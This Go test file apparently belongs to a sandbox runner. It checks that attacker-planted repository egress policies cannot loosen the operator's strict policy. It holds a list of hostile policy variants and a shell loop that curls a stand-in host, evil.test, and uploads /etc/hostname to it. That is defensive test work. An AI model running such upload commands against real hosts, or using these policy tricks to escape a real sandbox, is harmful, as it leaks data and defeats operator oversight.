// SPDX-License-Identifier: Apache-2.0

//go:build linux

package attack_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/zviz/run/executor"
	"github.com/zviz/run/internal/testenv"
)

// repositoryPolicies are what an attacker would write into the policy of a repository.
// Those with a control open something when they are the operator's.
var repositoryPolicies = []struct {
	name, egress string // the body of "egress"; ADDR is the server
	control      bool
}{
	{"another host", "allow: [evil.test, allowed.test]", true},
	{"every host", "allow: ['*.allowed.test', evil.test]\n  presets: []", true},
	{"every method and path", "allow: [allowed.test]", true},
	{"a host that nobody looks into", "allow: [{host: allowed.test, tls: splice}]", true},
	{"audit", "mode: audit", true},
	{"audit of nothing", "mode: audit\n  allow: []", true},
	{"learn", "mode: learn", true},
	{"an address", "allow: [evil.test]\n  upstream: {hosts: {evil.test: 'ADDR', allowed.test: 'ADDR'}}", true},
	{"a proxy", "upstream: {proxy: 'http://ADDR'}", false},
	{"a resolver", "upstream: {dns: 'ADDR'}", false},
	{"a credential", "allow: [{host: allowed.test, inject: {header: X, value_from: 'env:HOME'}}]", false},
	{"a private address", "allow: [{host: evil.test, private: true}]", false},
	{"steps", "steps: [{match: '*', allow: [evil.test]}]", false},
	{"refusals that are expected", "expect_denied: ['*.test']", false},
	{"a file", "npm: {prebuilt: [{url: 'https://evil.test/x', sha256: " + strings.Repeat("0", 64) + "}]}", false},
	{"presets", "presets: [npm, go, github]", false},
	{"to publish", "npm: {publish: true}", false},
	{"no limits", "limits: {connections: 100000, up_bytes_per_host: 1TiB}", false},
	{"no evidence", "limits: {events: 1}", false},
}

// TestRepositoryPolicies has each of them in a workspace: what the operator's policy
// refuses never reaches the outside, whatever the repository's file says.
func TestRepositoryPolicies(t *testing.T) {
	r := newRig(t)
	testenv.NeedTool(t, "curl")
	var mu sync.Mutex
	var got []string
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, q *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, q.Method+" "+q.Host+q.URL.Path)
	}))
	t.Cleanup(server.Close)
	addr := server.Listener.Addr().String()
	reached := func() []string {
		mu.Lock()
		defer mu.Unlock()
		all := got
		got = nil
		return slices.DeleteFunc(all, func(s string) bool { return s == "GET allowed.test/ok/x" })
	}
	upstream := fmt.Sprintf("  upstream: {hosts: {allowed.test: %q, evil.test: %q}}\n", addr, addr)
	operator := func(t *testing.T, text string) string {
		t.Helper()
		file := filepath.Join(r.folder(t), "policy.yml")
		if err := os.WriteFile(file, []byte("version: 1\negress:\n  "+text), 0o600); err != nil {
			t.Fatal(err)
		}
		r.own(t, file)
		return file
	}
	const attempts = `for u in http://allowed.test/ok/x http://allowed.test/other http://evil.test/x http://evil.test:8080/x; do curl -s -m 10 $u; curl -s -m 10 -T /etc/hostname $u; done; true`
	run := func(t *testing.T, policy string) (string, int) {
		t.Helper()
		return r.command(t, r.workspace, r.runner, "exec", "--policy", policy, "--pids", "64", "--timeout", "60s", "--", "sh", "-c", attempts)
	}
	own := filepath.Join(r.workspace, executor.RepositoryPolicyName)
	plant := func(t *testing.T, text string) {
		t.Helper()
		if err := os.WriteFile(own, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		r.own(t, own)
		t.Cleanup(func() { _ = os.Remove(own) })
	}
	strict := operator(t, "allow: [{host: allowed.test, methods: [GET], paths: [/ok/**]}]\n"+upstream)
	if out, code := run(t, strict); code != 0 || len(reached()) > 0 {
		t.Fatalf("without a file in the workspace: exit code %d, %s", code, out)
	}
	for _, tt := range repositoryPolicies {
		text := strings.ReplaceAll(tt.egress, "ADDR", addr) + "\n"
		if tt.control {
			t.Run("outside/"+tt.name, func(t *testing.T) {
				more := upstream
				if strings.Contains(text, "upstream:") {
					more = ""
				}
				if out, _ := run(t, operator(t, text+more)); len(reached()) == 0 {
					t.Errorf("as the operator's it opens nothing: the attempt proves nothing: %s", out)
				}
			})
		}
		t.Run(tt.name, func(t *testing.T) {
			plant(t, "version: 1\negress:\n  "+text)
			out, code := run(t, strict)
			if what := reached(); len(what) > 0 {
				t.Errorf("the outside got %q: %s", what, out)
			}
			if code != 0 && (code != 125 || !strings.Contains(out, executor.RepositoryPolicyName+":")) {
				t.Errorf("exit code %d: %s", code, out)
			}
		})
	}
	t.Run("a link to a policy of the operator's", func(t *testing.T) {
		if err := os.Symlink(operator(t, "mode: audit\n"+upstream), own); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = os.Remove(own) })
		if out, code := run(t, strict); code != 125 || len(reached()) > 0 {
			t.Errorf("exit code %d: %s", code, out)
		}
	})
}
